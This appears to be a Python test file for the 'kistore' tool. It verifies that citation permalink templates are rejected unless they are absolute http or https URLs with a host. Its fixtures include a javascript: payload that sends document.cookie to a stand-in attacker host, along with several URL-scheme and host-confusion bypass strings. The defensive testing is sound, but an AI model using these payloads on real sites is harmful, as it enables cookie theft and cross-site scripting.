"""A ``[cite] permalink`` must make a web link: review r78 F5.

``javascript:fetch(...)//{commit}/{path}`` was a valid template: the gate warned (KI422,
exit 0), ``cite`` printed it, and ``site build`` wrote it as a clickable ``href`` on every
run page. Now the one check of a template (:func:`kistore.core.settings.template_fields`)
refuses a link that is not an absolute ``https:``/``http:`` URL with a host, so the gate
(KI108), ``cite``, ``export`` and ``site build`` (tests/site/test_csp.py) all say the same.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kistore.cite.citation import Remote, parse_remote, permalink
from kistore.cli import main
from kistore.core.errors import InputError
from kistore.core.settings import LINK_FIX, template_fields

from ..conftest import findings_lines, git

EVIL = "javascript:fetch(`//evil.example/`+document.cookie)//{commit}/{path}"
"""The reviewer's template."""


def refusal(template: str, problem: str, file: str = "kistore.toml") -> str:
    """The whole message of a refused template."""
    return (f"{file}: [cite] permalink {template!r} does not make a web link: {problem}; "
            f"{LINK_FIX}")


@pytest.mark.parametrize(("template", "problem"), [
    (EVIL, "it has the scheme 'javascript:', not https: or http:"),
    ("data:text/html,<b>{commit}{path}", "it has the scheme 'data:', not https: or http:"),
    ("JAVASCRIPT:alert(1)//{commit}/{path}",
     "it has the scheme 'javascript:', not https: or http:"),
    (" https://x/{commit}/{path}",
     "it holds the character U+0020 (whitespace or a control character)"),
    ("\tjavascript:alert(1)//{commit}/{path}",
     "it holds the character U+0009 (whitespace or a control character)"),
    ("https://x/\x00{commit}/{path}",
     "it holds the character U+0000 (whitespace or a control character)"),
    ("https:\\\\evil.example/{commit}/{path}",
     "it holds a backslash, which browsers read as /"),
    ("https://github.com@evil.example/{commit}/{path}",
     "it has user information (USER@HOST) before its host, which browsers leave for the "
     "host after the @"),
    ("https:///{commit}/{path}", "it has no host after https://"),
    ("https:/x/{commit}/{path}", "it has no host after https://"),
    ("//evil.example/{commit}/{path}", "it has no scheme, not https: or http:"),
    ("/blob/{commit}/{path}", "it has no scheme, not https: or http:"),
    ("{digest}/{commit}/{path}", "it has the scheme 'sha256:', not https: or http:"),
    ("ftp://x/{commit}/{path}", "it has the scheme 'ftp:', not https: or http:"),
    ("https://x:99999/{commit}/{path}", "it is not a URL (Port out of range 0-65535)"),
])
def test_a_template_that_makes_no_web_link_is_refused(template, problem):
    with pytest.raises(InputError) as caught:
        template_fields(template)
    assert str(caught.value) == refusal(template, problem)


@pytest.mark.parametrize(("template", "fields"), [
    ("https://x/{commit}/{path}", {"commit", "path"}),
    ("http://x/{commit}/{path}", {"commit", "path"}),
    ("HTTPS://Git.Example.org:8443/i/-/blob/{commit}/{path}?d={digest}",
     {"commit", "path", "digest"}),
    ("{base}/blob/{commit}/{path}", {"base", "commit", "path"}),
    ("https://{commit}.example/{path}", {"commit", "path"}),
])
def test_an_http_or_https_template_with_a_host_is_accepted(template, fields):
    assert template_fields(template) == fields


@given(prefix=st.text(st.sampled_from(" \t\n\r\x00\x01\x0b\x0c\x1f\x7f\x85\xa0\u2028"),
                      max_size=3),
       scheme=st.sampled_from(["javascript", "data", "vbscript", "file"]).flatmap(
           lambda s: st.tuples(*(st.sampled_from([c.lower(), c.upper()]) for c in s))),
       rest=st.sampled_from(["alert(1)//", "//evil.example/", "text/html,x"]))
def test_no_case_or_leading_blank_gets_another_scheme_past(prefix, scheme, rest):
    template = f"{prefix}{''.join(scheme)}:{rest}{{commit}}/{{path}}"
    with pytest.raises(InputError, match="does not make a web link"):
        template_fields(template)


def test_a_remote_whose_web_url_is_no_link_gives_no_permalink():
    # {base} is judged on the link made: a remote parse_remote reads with an odd host
    remote = parse_remote("https://github.com/o/r")
    assert remote is not None
    made = permalink("{base}/blob/{commit}/{path}", remote, commit="c" * 40,
                     path="store/x y.json")
    assert made == f"https://github.com/o/r/blob/{'c' * 40}/store/x%20y.json"
    odd = Remote(url="x", host="x", base="javascript:alert(1)//x", forge=None)
    with pytest.raises(InputError, match="does not make a web link: it has the scheme "
                                         "'javascript:'"):
        permalink("{base}/blob/{commit}/{path}", odd, commit="c" * 40, path="p")


def set_template(root: Path, template: str) -> None:
    (root / "kistore.toml").write_text(
        f'[store]\nversion = 1\n\n[cite]\npermalink = "{template}"\n')
    git(root, "commit", "-qam", "cite: permalink")


def test_the_gate_refuses_a_javascript_permalink_as_ki108(runner, published):
    # review r78 F5's reproduction: the gate said "ok ... 1 warning" (KI422) and exited 0
    base = git(published, "rev-parse", "HEAD").strip()
    set_template(published, EVIL)
    result = runner.invoke(main, ["--store", str(published), "check", f"{base}..HEAD"])
    assert result.exit_code == 1
    assert findings_lines(result.output) == [
        "kistore.toml:5:1:/cite/permalink: error KI108 settings-invalid: "
        + refusal(EVIL, "it has the scheme 'javascript:', not https: or http:").removeprefix(
            "kistore.toml: "),
        f"FAILED: {base}..HEAD: 1 error, 0 warnings, 0 info"]


def test_cite_and_export_refuse_it_with_the_same_message(runner, published, tmp_path):
    set_template(published, EVIL)
    message = refusal(EVIL, "it has the scheme 'javascript:', not https: or http:")
    result = runner.invoke(main, ["--store", str(published), "cite",
                                  "BenchmarkRun/sol-submission-20464"])
    assert (result.exit_code, result.output) == (1, f"error: {message}\n")
    out = tmp_path / "out"
    result = runner.invoke(main, ["--store", str(published), "export", str(out),
                                  "--format", "jsonl"])
    assert result.exit_code == 0  # the data exports; no link is made
    assert f"warning: permalinks left empty: {message.removeprefix('kistore.toml: ')}" in \
        result.output
    [row] = [json.loads(line) for line in
             (out / "runs" / "part-00000.jsonl").read_text().splitlines()]
    assert row["permalink"] is None and row["firstCommit"] == git(published, "rev-parse",
                                                                   "HEAD~1").strip()
